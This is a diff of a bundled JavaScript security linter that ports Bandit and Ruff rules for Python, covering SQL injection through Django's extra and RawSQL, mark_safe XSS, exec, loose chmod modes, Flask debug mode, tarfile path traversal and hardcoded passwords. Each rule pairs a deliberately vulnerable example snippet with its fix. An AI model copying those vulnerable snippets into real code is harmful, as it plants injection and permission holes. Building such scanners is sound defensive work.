+    notReported: ['`extra()` arguments that are literal strings, or lists, tuples and dicts of literal strings.', '`params=` and `select_params=` (they are passed as parameters).', 'Files that do not import from `django`.'],
+    uses: [calls_1.calls],
+    create(context) {
+        let importsDjango = false;
+        const imported = (node) => {
+            if (/\bdjango\b/.test(node.text))
+                importsDjango = true;
+        };
+        return {
+            import_statement: imported,
+            import_from_statement: imported,
+            end() {
+                if (!importsDjango)
+                    return;
+                for (const call of context.analysis(calls_1.calls).calls) {
+                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'extra' || !call.args)
+                        continue;
+                    const args = call.args.namedChildren.filter((c) => !!c && c.type !== 'comment');
+                    const risky = args.some((a) => {
+                        if (a.type === 'keyword_argument') {
+                            const name = a.childForFieldName('name')?.text;
+                            if (name === 'params' || name === 'select_params')
+                                return false;
+                            const value = a.childForFieldName('value');
+                            return !!value && !allLiteral(value);
+                        }
+                        return a.type !== 'list_splat' && a.type !== 'dictionary_splat' && !allLiteral(a);
+                    });
+                    if (risky)
+                        context.report(call.callee, '`extra()` with SQL that is not a literal is open to SQL injection');
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 2223:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.djangoMarkSafe = void 0;
+/** Bandit B703: Django's `mark_safe` (or `SafeString`) applied to a value that is not a literal. */
+const common_1 = __nccwpck_require__(8925);
+const markup_1 = __nccwpck_require__(655);
+exports.djangoMarkSafe = (0, common_1.callRule)({
+    id: 'django-mark-safe', name: 'DjangoMarkSafe', bandit: 'B703', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'xss', cwe: [80],
+    functions: ['django.utils.safestring.mark_safe', 'django.utils.safestring.SafeString', 'django.utils.safestring.SafeText', 'django.utils.html.mark_safe'],
+    check: markup_1.marksNonLiteral,
+    message: (call) => `${(0, common_1.callName)(call)} applied to a value that is not a literal: anything in it reaches the page unescaped`,
+    short: 'Django mark_safe/SafeString applied to a value that is not a literal',
+    full: 'mark_safe (or SafeString) marks its argument as safe HTML; when the argument is built at run time, user input in it reaches the page unescaped (XSS).',
+    title: 'Django `mark_safe` on a value built at run time',
+    why: 'Values marked safe skip Django\'s autoescaping. If any part of the string comes from a user, its markup and scripts run in the page.',
+    example: 'from django.utils.safestring import mark_safe\n\nreturn mark_safe("<b>%s</b>" % comment.text)',
+    fix: 'Use `django.utils.html.format_html("<b>{}</b>", comment.text)`, which escapes the arguments, and keep `mark_safe` for literals.',
+    fixed: 'from django.utils.html import format_html\n\nreturn format_html("<b>{}</b>", comment.text)',
+    notReported: ['Literal strings: they contain nothing from outside the program.', 'Ruff has no separate code for this check: its `S308` (`django-mark-safe-call`) covers every `mark_safe` call.'],
+});
+
+
+/***/ }),
+
+/***/ 829:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.djangoRawSql = void 0;
+/** Bandit B611 / Ruff S611: Django's `RawSQL` given SQL that is not a literal. */
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+exports.djangoRawSql = (0, common_1.callRule)({
+    id: 'django-raw-sql', name: 'DjangoRawSql', bandit: 'B611', ruff: 'S611', severity: 'MEDIUM', confidence: 'MEDIUM',
+    category: 'injection', cwe: [89], functions: ['django.db.models.expressions.RawSQL', 'django.db.models.RawSQL'],
+    check: (call) => {
+        const sql = (0, arguments_1.argumentAt)(call.node, 0, 'sql');
+        return sql !== undefined && sql.type !== 'list_splat' && (0, literals_1.stringLiteralValue)(sql) === undefined;
+    },
+    message: (call) => `${(0, common_1.callName)(call)} with SQL that is not a literal is open to SQL injection; pass values through \`params\``,
+    short: 'Django RawSQL with SQL that is not a literal',
+    full: 'django RawSQL inserts its SQL text into the query as it is; SQL built at run time is open to SQL injection.',
+    title: 'Django `RawSQL` with SQL built at run time',
+    why: '`RawSQL(sql, params)` puts `sql` into the query unescaped. Values formatted into it can change the query.',
+    example: 'from django.db.models.expressions import RawSQL\n\nqs.annotate(v=RawSQL(f"select col from t where id = {pk}", []))',
+    fix: 'Keep the SQL literal with placeholders and pass values in `params`: `RawSQL("select col from t where id = %s", (pk,))`.',
+    fixed: 'from django.db.models.expressions import RawSQL\n\nqs.annotate(v=RawSQL("select col from t where id = %s", (pk,)))',
+    notReported: ['Literal SQL strings.', 'Positional arguments given only by `*args`.'],
+});
+
+
+/***/ }),
+
+/***/ 8227:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.execUsed = void 0;
+/** Bandit B102 / Ruff S102: a call to the builtin `exec`. */
+const common_1 = __nccwpck_require__(8925);
+exports.execUsed = (0, common_1.callRule)({
+    id: 'exec-used', name: 'ExecUsed', bandit: 'B102', ruff: 'S102', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'injection', cwe: [78], functions: ['builtins.exec'],
+    short: 'exec() runs a string as Python code',
+    full: 'The builtin exec runs arbitrary Python statements. If any part of its input comes from outside the program, so does the code it runs.',
+    title: 'Use of `exec`',
+    why: '`exec` compiles and runs any Python statements it is given, with the program\'s privileges. Data from a request, a file or a database that reaches it becomes code.',
+    example: 'def apply(rule_text):\n    exec(rule_text)',
+    fix: 'Replace dynamic code with data: a dictionary of functions, `getattr` on a known object with a checked name, `ast.literal_eval` for literals, or a small parser for the rule language.',
+    fixed: 'RULES = {"strip": str.strip, "lower": str.lower}\n\ndef apply(rule_name, text):\n    return RULES[rule_name](text)',
+    notReported: ['Functions or methods named `exec` that are not the builtin (a local `def exec`, `cursor.exec(...)`).'],
+    message: (call) => `${(0, common_1.callName)(call)} runs a string as Python code`,
+});
+
+
+/***/ }),
+
+/***/ 7927:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.CHMOD_NOT_REPORTED = exports.CHMOD_SPEC = exports.groupExecutable = exports.worldWritable = void 0;
+exports.modeValue = modeValue;
+exports.chmodModes = chmodModes;
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
 const common_1 = __nccwpck_require__(8925);
 const STAT = {
     S_ISUID: 0o4000, S_ISGID: 0o2000, S_ISVTX: 0o1000, S_ENFMT: 0o2000,
@@ -9943,7 +11057,7 @@ const STAT = {
 const FUNCTIONS = ['os.chmod'];
 /** The integer value of a constant mode expression, or undefined. */
 function modeValue(node, model) {
-    const expr = (0, calls_1.unparenthesize)(node);
+    const expr = (0, literals_1.unparenthesize)(node);
     switch (expr.type) {
         case 'integer': {
             const t = expr.text.replace(/_/g, '').toLowerCase();
@@ -9981,968 +11095,277 @@ function modeValue(node, model) {
             return undefined;
     }
 }
-function makeRule(world) {
-    const meta = (0, common_1.securityMeta)({
-        id: world ? 'world-writable-file-permissions' : 'group-executable-file-permissions',
-        name: world ? 'WorldWritableFilePermissions' : 'GroupExecutableFilePermissions',
-        bandit: 'B103', ruff: 'S103', severity: world ? 'HIGH' : 'MEDIUM', confidence: 'HIGH',
-        category: 'files', cwe: [732],
-        short: world ? 'os.chmod makes a file world-writable' : 'os.chmod makes a file executable by its group',
-        full: world
-            ? 'os.chmod is called with a constant mode that lets every user of the machine write the file: anyone can replace its contents.'
-            : 'os.chmod is called with a constant mode that lets the file\'s group execute it, wider than most files need.',
-        title: world ? 'A world-writable file mode' : 'A group-executable file mode',
-        why: world
-            ? 'A mode with the "others write" bit (`0o002`, as in `0o777` or `0o666`) lets every local user modify the file. If the program later reads, imports or executes it, another user controls what it does.'
-            : 'A mode with the "group execute" bit (`0o010`) lets every member of the file\'s group run it. For data files and most scripts this is wider than needed, and it often comes with other broad bits.',
-        example: world ? 'import os\n\nos.chmod("deploy.sh", 0o777)' : 'import os\n\nos.chmod(path, 0o750)',
-        fix: 'Grant the least access needed: `0o600` for private data, `0o644` for readable files, `0o700`/`0o755` for executables owned by the program.',
-        notReported: [
-            'Modes that are not constants (a variable, a value read from configuration).',
-            '`os.lchmod`, `os.fchmod` and `pathlib.Path.chmod` (only `os.chmod` is checked, as Ruff does).',
-            `Modes without the ${world ? 'others-write bit' : 'group-execute bit (world-writable modes are `world-writable-file-permissions`)'}.`,
-        ],
-        note: '## Why two rules\n\nBandit grades B103 high when the mode is world-writable and medium when it is only group-executable. A code scanning rule has one severity, so Tendril reports the two cases as `world-writable-file-permissions` (high) and `group-executable-file-permissions` (medium); both answer to `B103` and `S103`.',
-    });
+/** True when a mode lets every user write the file (the "others write" bit). */
+const worldWritable = (mode) => (mode & 0o2) !== 0;
+exports.worldWritable = worldWritable;
+/** True when a mode lets the file's group execute it (the "group execute" bit). */
+const groupExecutable = (mode) => (mode & 0o10) !== 0;
+exports.groupExecutable = groupExecutable;
+/**
+ * `uses` and `create` of a rule reporting `os.chmod` calls whose constant mode `selects`, on the
+ * mode, with the message "<call> sets mode `0o...`, <says>".
+ */
+function chmodModes(selects, says) {
     return {
-        meta,
         uses: [calls_1.calls],
         create(context) {
             return {
                 end() {
-                    const model = context.analysis('calls');
+                    const model = context.analysis(calls_1.calls);
                     for (const call of model.callsToAssumed(FUNCTIONS)) {
-                        const modeNode = (0, calls_1.argumentAt)(call.node, 1, 'mode');
+                        const modeNode = (0, arguments_1.argumentAt)(call.node, 1, 'mode');
                         if (!modeNode || modeNode.type === 'list_splat')
                             continue;
                         const mode = modeValue(modeNode, model);
-                        if (mode === undefined)
+                        if (mode === undefined || !selects(mode))
                             continue;
-                        const worldWritable = (mode & 0o2) !== 0;
-                        const groupExec = (mode & 0o10) !== 0;
-                        if (world ? !worldWritable : worldWritable || !groupExec)
-                            continue;
-                        context.report(meta, modeNode, `${(0, common_1.callName)(call)} sets mode \`0o${mode.toString(8)}\`, ${world ? 'writable by every user' : 'executable by the group'}`);
+                        context.report(modeNode, `${(0, common_1.callName)(call)} sets mode \`0o${mode.toString(8)}\`, ${says}`);
                     }
                 },
             };
         },
     };
 }
-exports.worldWritableFilePermissions = makeRule(true);
-exports.groupExecutableFilePermissions = makeRule(false);
-
-
-/***/ }),
-
-/***/ 9242:
-/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.tarfileUnsafeMembers = exports.flaskDebugTrue = exports.requestWithoutTimeout = exports.HTTPX_FUNCTIONS = exports.REQUESTS_FUNCTIONS = exports.HTTP_METHODS = exports.tryExceptContinue = exports.tryExceptPass = exports.hardcodedTmpDirectory = exports.bindAllInterfaces = exports.execUsed = exports.assertUsed = void 0;
-const calls_1 = __nccwpck_require__(4463);
-const common_1 = __nccwpck_require__(8925);
-exports.assertUsed = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'assert-used', name: 'AssertUsed', bandit: 'B101', ruff: 'S101', severity: 'LOW', confidence: 'HIGH',
-        category: 'reliability', cwe: [703],
-        short: 'assert statement used (removed when Python runs with -O)',
-        full: 'An assert statement is compiled away when Python runs with -O or PYTHONOPTIMIZE, so a check written with assert (an access check, input validation) silently disappears in optimized runs.',
-        title: 'An `assert` statement',
-        why: 'Python removes every `assert` when it runs with `-O` (or `PYTHONOPTIMIZE` is set). An `assert` that enforces something the program relies on (a permission, a valid input, an invariant protecting data) then no longer runs, and the code continues as if the check had passed.',
-        example: 'def delete(user, item):\n    assert user.is_admin\n    item.delete()',
-        fix: 'Raise an exception explicitly: `if not user.is_admin: raise PermissionError(...)`. In tests, `assert` is the norm; exclude test files from the security analysis or dismiss the alerts there.',
-        notReported: ['Nothing is exempted: every `assert` statement is reported, including in tests (as Bandit and Ruff do).'],
-    });
-    return {
-        meta,
-        create(context) {
-            return {
-                assert_statement(node) {
-                    context.report(meta, node.child(0) ?? node, '`assert` is removed when Python runs with -O; raise an exception for checks the program relies on');
-                },
-            };
-        },
-    };
-})();
-exports.execUsed = (0, common_1.callRule)({
-    id: 'exec-used', name: 'ExecUsed', bandit: 'B102', ruff: 'S102', severity: 'MEDIUM', confidence: 'HIGH',
-    category: 'injection', cwe: [78], functions: ['builtins.exec'],
-    short: 'exec() runs a string as Python code',
-    full: 'The builtin exec runs arbitrary Python statements. If any part of its input comes from outside the program, so does the code it runs.',
-    title: 'Use of `exec`',
-    why: '`exec` compiles and runs any Python statements it is given, with the program\'s privileges. Data from a request, a file or a database that reaches it becomes code.',
-    example: 'def apply(rule_text):\n    exec(rule_text)',
-    fix: 'Replace dynamic code with data: a dictionary of functions, `getattr` on a known object with a checked name, `ast.literal_eval` for literals, or a small parser for the rule language.',
-    notReported: ['Functions or methods named `exec` that are not the builtin (a local `def exec`, `cursor.exec(...)`).'],
-    message: (call) => `${(0, common_1.callName)(call)} runs a string as Python code`,
-});
-/** Every string literal node and its value, skipping parts of implicit concatenations. */
-/**
- * A visitor that calls `check` with the value of every whole string literal: a plain string, or
- * an implicit concatenation as one (its parts are not checked again). The parts are recognised
- * from the concatenation, which the walk visits first, instead of asking each string for its
- * parent: `node.parent` costs the node's depth, which is quadratic on long chains.
- */
-/**
- * `needles`: every value `check` acts on contains one of them. A single string whose source has no
- * backslash has the text between its quotes as its value (an f-string's `{{` aside), so when that
- * source contains no needle either, the value is not computed.
- */
-function literalStrings(context, needles, check) {
-    const parts = new Set();
-    return {
-        concatenated_string(node) {
-            for (const child of node.namedChildren)
-                if (child)
-                    parts.add(child.id);
-            const value = (0, calls_1.stringLiteralValue)(node);
-            if (value !== undefined)
-                check(node, value);
-        },
-        string(node) {
-            if (parts.has(node.id))
-                return;
-            const text = context.textOf(node);
-            if (!text.includes('\\') && !needles.some((needle) => text.includes(needle)))
-                return;
-            const value = (0, calls_1.stringLiteralValue)(node);
-            if (value !== undefined)
-                check(node, value);
-        },
-    };
-}
-exports.bindAllInterfaces = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'bind-all-interfaces', name: 'BindAllInterfaces', bandit: 'B104', ruff: 'S104', severity: 'MEDIUM', confidence: 'MEDIUM',
-        category: 'network', cwe: [605],
-        short: 'the address "0.0.0.0": binding to every network interface',
-        full: 'A string literal "0.0.0.0", the address that makes a server listen on every interface of the machine, including public ones.',
-        title: 'Binding to all network interfaces',
-        why: 'A service bound to `0.0.0.0` accepts connections on every interface of the host, public ones included. A development server or an admin endpoint meant for local use becomes reachable from the network.',
-        example: 'app.run(host="0.0.0.0", port=8080)',
-        fix: 'Bind to `127.0.0.1` (or a specific interface) by default and make a wider address an explicit deployment setting.',
-        notReported: ['Strings built at run time; only a literal exactly equal to `0.0.0.0` is reported, wherever it appears.'],
-    });
-    return {
-        meta,
-        create(context) {
-            return literalStrings(context, ['0.0.0.0'], (node, value) => {
-                if (value === '0.0.0.0')
-                    context.report(meta, node, '"0.0.0.0" binds to every network interface; bind to a specific address');
-            });
-        },
-    };
-})();
-const TMP_PREFIXES = ['/tmp', '/var/tmp', '/dev/shm'];
-exports.hardcodedTmpDirectory = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'hardcoded-tmp-directory', name: 'HardcodedTmpDirectory', bandit: 'B108', ruff: 'S108', severity: 'MEDIUM', confidence: 'MEDIUM',
-        category: 'files', cwe: [377],
-        short: 'hardcoded path in a shared temporary directory (/tmp, /var/tmp, /dev/shm)',
-        full: 'A string literal naming a path under /tmp, /var/tmp or /dev/shm. Every user of the machine can create files there, so a fixed name can be taken over in advance (a symlink or a file with the attacker\'s content).',
-        title: 'A hardcoded path in a shared temporary directory',
-        why: 'Shared temporary directories are writable by every local user. A program that uses a fixed, predictable name there can be tricked: another user creates that file first, or a symlink to a file the program may write, and the program reads the attacker\'s data or overwrites the target.',
-        example: 'with open("/tmp/report.csv", "w") as f:\n    f.write(data)',
-        fix: 'Use the `tempfile` module (`NamedTemporaryFile`, `mkstemp`, `TemporaryDirectory`), which picks an unpredictable name and creates it atomically with private permissions.',
-        notReported: ['Paths built at run time, and paths outside `/tmp`, `/var/tmp` and `/dev/shm`.'],
-    });
-    return {
-        meta,
-        create(context) {
-            return literalStrings(context, TMP_PREFIXES, (node, value) => {
-                if (TMP_PREFIXES.some((p) => value.startsWith(p))) {
-                    context.report(meta, node, 'hardcoded path in a shared temporary directory; use the tempfile module');
-                }
-            });
-        },
-    };
-})();
-/** The exception types of an except clause (none for a bare `except:`). */
-function exceptTypes(clause) {
-    const out = [];
-    for (const child of clause.namedChildren) {
-        if (!child || child.type === 'block' || child.type === 'comment')
-            continue;
-        const expr = child.type === 'as_pattern' ? child.namedChildren[0] : child;
-        if (!expr)
-            continue;
-        const inner = (0, calls_1.unparenthesize)(expr);
-        if (inner.type === 'tuple') {
-            for (const item of inner.namedChildren)
-                if (item && item.type !== 'comment')
-                    out.push(item);
-        }
-        else
-            out.push(inner);
-    }
-    return out;
-}
-function makeTryExcept(kind) {
-    const pass = kind === 'pass';
-    const meta = (0, common_1.securityMeta)({
-        id: pass ? 'try-except-pass' : 'try-except-continue',
-        name: pass ? 'TryExceptPass' : 'TryExceptContinue',
-        bandit: pass ? 'B110' : 'B112',
-        ruff: pass ? 'S110' : 'S112',
-        severity: 'LOW', confidence: 'HIGH', category: 'reliability', cwe: [703],
-        short: `\`except\` that only \`${kind}\`es: errors are silently ignored`,
-        full: `A bare except (or except Exception / BaseException) whose body is only \`${kind}\`. Every error, including unexpected ones, is swallowed without a trace, which hides failures and attacks alike.`,
-        title: `\`try\`/\`except\`/\`${kind}\``,
-        why: `An \`except\` clause that catches everything and only does \`${kind}\` makes failures invisible: a broken configuration, a denied permission or a tampered input produce no log and no error, and the program ${pass ? 'carries on' : 'moves on to the next item'} in a state nobody checked.`,
-        example: pass
-            ? 'try:\n    verify_signature(payload)\nexcept Exception:\n    pass'
-            : 'for item in items:\n    try:\n        process(item)\n    except:\n        continue',
-        fix: 'Catch the specific exceptions you expect, and log the others (`logger.exception(...)`) or let them propagate. Where ignoring really is right, `contextlib.suppress(SpecificError)` says so explicitly.',
-        notReported: [
-            'Handlers for specific exception types (`except KeyError: ' + kind + '`): only bare `except:`, `except Exception` and `except BaseException` (alone or in a tuple) are reported, as in Bandit\'s and Ruff\'s default settings.',
-            `Handlers whose body does anything besides \`${kind}\` (a log call, a comment and \`${kind}\` counts as only \`${kind}\`).`,
-        ],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            const clauses = [];
-            const visit = (node) => {
-                clauses.push(node);
-            };
-            return {
-                except_clause: visit,
-                except_group_clause: visit,
-                end() {
-                    const model = context.analysis('calls');
-                    for (const clause of clauses) {
-                        const body = clause.namedChildren.find((c) => c?.type === 'block');
-                        const statements = body ? body.namedChildren.filter((c) => c && c.type !== 'comment') : [];
-                        if (statements.length !== 1 || statements[0].type !== `${kind}_statement`)
-                            continue;
-                        const types = exceptTypes(clause);
-                        const broad = types.length === 0 || types.some((t) => {
-                            const q = model.resolveAssumed(t);
-                            return q === 'builtins.Exception' || q === 'builtins.BaseException' || (q === undefined && (t.text === 'Exception' || t.text === 'BaseException'));
-                        });
-                        if (!broad)
-                            continue;
-                        context.report(meta, clause.child(0) ?? clause, `\`except\` that only \`${kind}\`es silently ignores every error; catch specific exceptions or log them`);
-                    }
-                },
-            };
-        },
-    };
-}
-exports.tryExceptPass = makeTryExcept('pass');
-exports.tryExceptContinue = makeTryExcept('continue');
-exports.HTTP_METHODS = 'get options head post put patch delete request';
-exports.REQUESTS_FUNCTIONS = (0, common_1.qualify)('requests', exports.HTTP_METHODS);
-exports.HTTPX_FUNCTIONS = [...(0, common_1.qualify)('httpx', `${exports.HTTP_METHODS} stream Client AsyncClient`)];
-exports.requestWithoutTimeout = (0, common_1.callRule)({
-    id: 'request-without-timeout', name: 'RequestWithoutTimeout', bandit: 'B113', ruff: 'S113', severity: 'MEDIUM', confidence: 'LOW',
-    category: 'network', cwe: [400],
-    functions: [...exports.REQUESTS_FUNCTIONS, ...exports.HTTPX_FUNCTIONS],
-    check: (call) => {
-        const timeout = (0, calls_1.keywordValue)(call.node, 'timeout');
-        if (timeout)
-            return (0, calls_1.unparenthesize)(timeout).type === 'none' ? timeout : false;
-        // httpx has a default timeout; requests waits forever unless told otherwise.
-        return call.assumedName.startsWith('requests.') && !(0, calls_1.hasArgumentSplat)(call.node);
-    },
-    message: (call) => `${(0, common_1.callName)(call)} has no timeout: a server that stops answering blocks the caller forever`,
-    short: 'HTTP request without a timeout',
-    full: 'A requests call without timeout= (or an httpx/requests call with timeout=None) waits for the server indefinitely; a slow or hostile server can hang the program and exhaust its workers.',
-    title: 'An HTTP request without a timeout',
-    why: '`requests` has no default timeout: a call waits as long as the server keeps the connection open. One unresponsive host can block a worker forever, and enough of them take a service down. `httpx` has a default, but `timeout=None` removes it.',
-    example: 'import requests\n\nresp = requests.get(url)',
-    fix: 'Always pass a timeout: `requests.get(url, timeout=10)` (or a `(connect, read)` pair).',
-    notReported: ['`httpx` calls without `timeout=`: httpx applies a 5-second default.', 'Calls that pass `**kwargs` (the timeout may be in them).', 'Methods of a `requests.Session` (the session object is not tracked).'],
-});
-exports.flaskDebugTrue = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'flask-debug-true', name: 'FlaskDebugTrue', bandit: 'B201', ruff: 'S201', severity: 'HIGH', confidence: 'MEDIUM',
-        category: 'configuration', cwe: [94],
-        short: 'Flask app run with debug=True (interactive debugger exposed)',
-        full: 'An app.run(..., debug=True) call. Flask\'s debug mode serves the Werkzeug debugger, which lets anyone who reaches an error page run Python code on the server.',
-        title: 'A Flask application run in debug mode',
-        why: 'With `debug=True`, an unhandled error shows the Werkzeug interactive debugger, a Python console in the browser. Anyone who can reach the server and trigger an error can run code on it.',
-        example: 'app = Flask(__name__)\napp.run(host="0.0.0.0", debug=True)',
-        fix: 'Leave debug off in code (`app.run()`), and turn it on only in development with `flask run --debug` or an environment variable.',
-        notReported: ['Files that do not import `flask` (as in Bandit).', '`debug=` with a value that is not a constant true (a setting read at run time).', 'Calls to a method named `run` with no `debug=` keyword.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            const imports = (0, common_1.importsModule)('flask');
-            return {
-                ...imports.visitor,
-                end() {
-                    if (!imports.seen())
-                        return;
-                    for (const call of context.analysis('calls').calls) {
-                        if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'run')
-                            continue;
-                        const debug = (0, calls_1.keywordValue)(call.node, 'debug');
-                        if (debug && (0, calls_1.unparenthesize)(debug).type === 'true')
-                            context.report(meta, call.callee, '`debug=True` exposes the Werkzeug debugger, which runs code for whoever triggers an error');
-                    }
-                },
-            };
-        },
-    };
-})();
-exports.tarfileUnsafeMembers = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'tarfile-unsafe-members', name: 'TarfileUnsafeMembers', bandit: 'B202', ruff: 'S202', severity: 'HIGH', confidence: 'HIGH',
-        category: 'files', cwe: [22],
-        short: 'tarfile extractall() without a safe filter (path traversal)',
-        full: 'An extractall() call without filter="data" (or "tar"). Archive members named ../x or /etc/x, or symlinks, can write files anywhere the process can.',
-        title: '`tarfile` `extractall()` without a safe filter',
-        why: 'Tar members can have absolute names, `..` components, or be links pointing outside the target directory. Extracting an untrusted archive without a filter writes where the archive says (path traversal).',
-        example: 'import tarfile\n\nwith tarfile.open(upload) as tar:\n    tar.extractall("out")',
-        fix: 'Pass `filter="data"` (Python 3.12+, backported to security releases), or check each member before extracting it.',
-        notReported: ['Files that do not import `tarfile` (as in Bandit and Ruff).', 'Calls with `filter="data"` or `filter="tar"`.', 'Bandit lowers the severity when `members=` is given by a function; this rule keeps the higher severity (high) for every case it reports.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            const imports = (0, common_1.importsModule)('tarfile');
-            return {
-                ...imports.visitor,
-                end() {
-                    if (!imports.seen())
-                        return;
-                    for (const call of context.analysis('calls').calls) {
-                        if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'extractall')
-                            continue;
-                        const filter = (0, calls_1.keywordValue)(call.node, 'filter');
-                        const value = filter ? (0, calls_1.stringLiteralValue)(filter) : undefined;
-                        if (value === 'data' || value === 'tar')
-                            continue;
-                        context.report(meta, call.callee, '`extractall()` without `filter="data"` can write outside the target directory');
-                    }
-                },
-            };
-        },
-    };
-})();
-
-
-/***/ }),
-
-/***/ 7090:
-/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.hardcodedPasswordDefault = exports.hardcodedPasswordFuncArg = exports.hardcodedPasswordString = void 0;
-exports.isPasswordName = isPasswordName;
-const calls_1 = __nccwpck_require__(4463);
-const common_1 = __nccwpck_require__(8925);
-/** Names that look like they hold a password, token or secret (`db_password`, `PASSWD`, `api_token`, `secret_`). */
-const CANDIDATE = /(^|_)(pas+wo?r?d|pass(phrase)?|pwd|token|secrete?)($|_)/i;
-function isPasswordName(name) {
-    return CANDIDATE.test(name);
-}
-/** The name a target is known by: `password`, `self.password` -> `password`, `d["password"]` -> `password`. */
-function targetName(node) {
-    const expr = (0, calls_1.unparenthesize)(node);
-    if (expr.type === 'identifier')
-        return expr.text;
-    if (expr.type === 'attribute')
-        return expr.childForFieldName('attribute')?.text;
-    if (expr.type === 'subscript') {
-        const index = expr.childForFieldName('subscript');
-        return index ? (0, calls_1.stringLiteralValue)(index) : undefined;
-    }
-    return undefined;
-}
-/** A plain string literal value (with no interpolation), or undefined. */
-function literal(node) {
-    return node ? (0, calls_1.stringLiteralValue)(node) : undefined;
-}
-const COMMON_NOT_REPORTED = [
-    'Empty strings.',
-    'Values that are not plain string literals (f-strings with fields, calls such as `os.environ["PASSWORD"]`, names).',
-    'Names that do not contain `password`, `passwd`, `pwd`, `pass`, `passphrase`, `token` or `secret` as a word (separated by `_` or at the ends): `passenger`, `tokenizer` and `bypass` are not candidates.',
+/** The aliases, grading and documentation the two rules share. */
+exports.CHMOD_SPEC = {
+    bandit: 'B103',
+    ruff: 'S103',
+    confidence: 'HIGH',
+    category: 'files',
+    cwe: [732],
+    fix: 'Grant the least access needed: `0o600` for private data, `0o644` for readable files, `0o700`/`0o755` for executables owned by the program.',
+    note: '## Why two rules\n\nBandit grades B103 high when the mode is world-writable and medium when it is only group-executable. A code scanning rule has one severity, so Tendril reports the two cases as `world-writable-file-permissions` (high) and `group-executable-file-permissions` (medium); both answer to `B103` and `S103`.',
+};
+/** The first "not reported" lines of both rules. */
+exports.CHMOD_NOT_REPORTED = [
+    'Modes that are not constants (a variable, a value read from configuration).',
+    '`os.lchmod`, `os.fchmod` and `pathlib.Path.chmod` (only `os.chmod` is checked, as Ruff does).',
 ];
-const FIX = 'Read secrets at run time from the environment (`os.environ["DB_PASSWORD"]`), a secrets manager, or a file outside the repository, and rotate any secret that was committed: it stays in the history.';
-function spec(kind) {
-    const common = { severity: 'LOW', confidence: 'MEDIUM', category: 'secrets', cwe: [259], fix: FIX };
-    if (kind === 'string')
-        return (0, common_1.securityMeta)({
-            ...common, id: 'hardcoded-password-string', name: 'HardcodedPasswordString', bandit: 'B105', ruff: 'S105',
-            short: 'possible hardcoded password assigned to or compared with a password-like name',
-            full: 'A string literal is assigned to, or compared with, a variable, attribute, dictionary key or subscript whose name suggests a password, token or secret. Secrets in source code are readable by everyone with access to the repository and its history.',
-            title: 'A hardcoded password string',
-            why: 'A secret written in the source is shared with everyone who can read the repository, its forks, its history and every built artifact, and it cannot be rotated without a code change. Comparing input against a literal password is the same secret in another form.',
-            example: 'DB_PASSWORD = "hunter2"\n\nif token == "s3cr3t-admin":\n    grant()',
-            notReported: COMMON_NOT_REPORTED,
-        });
-    if (kind === 'argument')
-        return (0, common_1.securityMeta)({
-            ...common, id: 'hardcoded-password-func-arg', name: 'HardcodedPasswordFuncArg', bandit: 'B106', ruff: 'S106',
-            short: 'possible hardcoded password passed as a keyword argument',
-            full: 'A call passes a string literal to a keyword argument whose name suggests a password, token or secret (password="...", api_token="...").',
-            title: 'A hardcoded password passed to a function',
-            why: 'A literal passed as `password=` or `token=` is a credential written in the source, visible to everyone who can read the code and its history.',
-            example: 'conn = connect(host="db", user="app", password="hunter2")',
-            notReported: COMMON_NOT_REPORTED,
-        });
-    return (0, common_1.securityMeta)({
-        ...common, id: 'hardcoded-password-default', name: 'HardcodedPasswordDefault', bandit: 'B107', ruff: 'S107',
-        short: 'possible hardcoded password as a parameter default',
-        full: 'A function parameter whose name suggests a password, token or secret has a string literal default: callers that omit it silently use a credential written in the source.',
-        title: 'A hardcoded password as a default argument',
-        why: 'A default value for a `password` or `token` parameter is a credential in the source code, and every caller that forgets the argument uses it without noticing.',
-        example: 'def connect(user, password="admin"):\n    ...',
-        notReported: COMMON_NOT_REPORTED,
-    });
-}
-exports.hardcodedPasswordString = (() => {
-    const meta = spec('string');
-    return {
-        meta,
-        create(context) {
-            const report = (value, name, how) => {
-                context.report(meta, value, `possible hardcoded password: a string literal is ${how} \`${name}\``);
-            };
-            return {
-                assignment(node) {
-                    // The target's name first: it is cheaper to read than the value, and rarely a candidate.
-                    const left = node.childForFieldName('left');
-                    const name = left ? targetName(left) : undefined;
-                    if (!name || !isPasswordName(name))
-                        return;
-                    // Chained assignment `a = b = "x"`: the right side is itself an assignment, handled there.
-                    const right = node.childForFieldName('right');
-                    if (right && literal(right))
-                        report(right, name, 'assigned to');
-                },
-                comparison_operator(node) {
-                    const operands = node.namedChildren.filter((c) => !!c && c.type !== 'comment');
-                    for (let i = 0; i + 1 < operands.length; i++) {
-                        const [a, b] = [operands[i], operands[i + 1]];
